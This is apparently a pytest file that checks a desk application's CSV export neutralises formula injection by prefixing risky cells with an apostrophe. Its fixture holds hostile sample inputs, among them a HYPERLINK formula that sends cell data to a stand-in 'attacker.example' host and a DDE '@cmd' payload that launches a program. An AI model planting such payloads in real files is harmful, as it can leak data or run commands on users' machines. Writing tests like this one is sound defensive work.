"""`desk-app export --csv`: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import getpass
from pathlib import Path

import pytest

from tests.conftest import desk_app, form, write_jsonl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A2,"Click for details")'


def export(tmp_path: Path, *flags: str) -> list[dict[str, str]]:
    out = tmp_path / "export.csv"
    # Run by a supervisor: who may export personal data is tests/test_identity_cli.py's.
    result = desk_app(tmp_path, "export", "--csv", out, *flags, desk_supervisors=getpass.getuser())
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def hostile_records(tmp_path: Path) -> None:
    """Records whose free text starts like formulas, as a resident or a hostile file may type."""
    lines = [
        form(description=HYPERLINK, location="+1+2"),
        form(description="-2+3", location="@SUM(A1:A9)"),
        form(description="\tfoo", location="\rbar"),
    ]
    lines[2]["reporter"] = {
        **lines[2]["reporter"],
        "name": "=1+1",
        "postal_address": "@cmd|' /C calc'!A0",
        "email": "-x@example.se",
    }
    result = desk_app(tmp_path, "import", write_jsonl(tmp_path / "hostile.jsonl", *lines))
    assert result.returncode == 0, result.stderr


@pytest.mark.usefixtures("hostile_records")
@pytest.mark.parametrize("flags", [(), ("--with-personal-data",)])
def test_no_exported_cell_starts_like_a_formula(tmp_path: Path, flags: tuple[str, ...]) -> None:
    rows = export(tmp_path, *flags)
    assert len(rows) == 3
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


@pytest.mark.usefixtures("hostile_records")
def test_a_formula_keeps_its_text_behind_an_apostrophe(tmp_path: Path) -> None:
    rows = export(tmp_path, "--with-personal-data")
    assert [row["description"] for row in rows] == ["'" + HYPERLINK, "'-2+3", "'\tfoo"]
    assert [row["location"] for row in rows] == ["'+1+2", "'@SUM(A1:A9)", "'\rbar"]
    assert rows[2]["name"] == "'=1+1"
    assert rows[2]["postal_address"] == "'@cmd|' /C calc'!A0"
    assert rows[2]["email"] == "'-x@example.se"
    # Phone numbers start with + too: text in a spreadsheet, as a phone number should be.
    assert rows[0]["phone"].startswith("'+46")


@pytest.mark.usefixtures("hostile_records")
def test_cells_that_start_like_text_are_left_as_they_are(tmp_path: Path) -> None:
    rows = export(tmp_path)
    assert [row["kind"] for row in rows] == ["complaint"] * 3
    assert rows[0]["received_at"] == "2026-11-18T09:02:11+00:00"
    assert all(row["reference"].startswith("VAS-") for row in rows)
